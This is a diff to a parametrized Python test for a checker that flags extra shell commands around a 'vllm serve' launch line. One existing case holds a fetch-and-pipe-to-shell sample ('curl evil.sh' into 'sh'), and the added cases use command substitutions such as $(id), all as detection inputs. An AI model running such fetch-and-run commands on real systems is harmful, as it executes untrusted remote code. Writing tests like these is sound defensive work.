@@ -562,6 +562,8 @@ def test_numbers_at_the_end_of_their_range_are_no_problem(recipes_check_project:
         ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
         ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
         ("export A=1; cd /srv; exec vllm serve x", []),
+        ("A=1 B='2 3'\nL=(--a 1)\nfor i in 1 2; do :; done\nvllm serve x \"${{L[@]}}\"", []),
+        ("A=$(id) B=1\nC=1 id\nfor i in $(ls); do :; done\nvllm serve x", ["A=$(id) B=1", "C=1 id", "for i in $(ls)"]),
         ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
     ],
 )
